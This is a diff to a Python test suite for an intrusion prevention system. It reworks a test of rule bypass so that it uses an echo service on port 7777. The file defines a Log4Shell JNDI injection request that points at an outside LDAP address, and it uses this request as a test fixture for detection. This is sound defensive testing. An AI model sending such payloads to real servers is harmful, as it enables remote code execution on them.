@@ -12,7 +12,7 @@ import signal
 import socket
 import time
 
-from harness import CLIENT, SERVER, policy, rule, unittest
+from harness import CLIENT, SERVER, echo, policy, rule, services, unittest
 from inspecting import INSPECTED, InspectingTest, profile
 
 RAW_LOG4SHELL = b"GET /?q=${jndi:ldap://198.51.100.66/a} HTTP/1.1\r\nHost: server.lab.example\r\n\r\n"
@@ -38,6 +38,8 @@ def signature_ids(records):
 
 
 class Ips(InspectingTest):
+    wanted_services = (services.web, echo(7777))
+
     def test_an_attack_is_dropped_and_the_event_names_the_rule(self):
         self.assertIsNotNone(self.answer("/"))
         for address in (SERVER.ipv4, SERVER.ipv6):
@@ -291,16 +293,22 @@ class Ips(InspectingTest):
         self.assertTrue(any("1000040" in one and "no effect here: filestore" in one for one in answer["warnings"]), answer)
 
     def test_bypass_leaves_the_rest_of_a_connection_alone(self):
-        self.apply_inspection('alert http any any -> any any (http.uri; content:"/free"; bypass; sid:1000050;)', OWN_RULE,
-                              monitored_rules=["1000050"])
-        self.assertIsNone(self.answer("/forbidden"))
-        outcome, connection = self.try_connect(SERVER.ipv4, 80)
-        self.assertEqual(outcome, "open")
-        self.addCleanup(connection.close)
-        connection.settimeout(3)
-        for path in (b"/free", b"/forbidden"):
-            connection.send(b"GET " + path + b" HTTP/1.1\r\nHost: server.lab.example\r\n\r\n")
-            self.assertTrue(connection.recv(1000))
+        self.apply_inspection('alert tcp any any -> any 7777 (content:"free"; bypass; sid:1000050;)',
+                              'drop tcp any any -> any 7777 (content:"forbidden"; sid:1000051;)', monitored_rules=["1000050"])
+        for first, passes in ((b"begin", False), (b"free", True)):
+            with self.subTest(first=first):
+                outcome, connection = self.try_connect(SERVER.ipv4, 7777)
+                self.assertEqual(outcome, "open")
+                with connection:
+                    connection.settimeout(2)
+                    connection.send(first)
+                    self.assertEqual(connection.recv(100), first)
+                    connection.send(b"forbidden")
+                    if passes:
+                        self.assertEqual(connection.recv(100), b"forbidden")
+                    else:
+                        self.assertRaises((TimeoutError, ConnectionResetError), connection.recv, 100)
+
 
 
 if __name__ == "__main__":
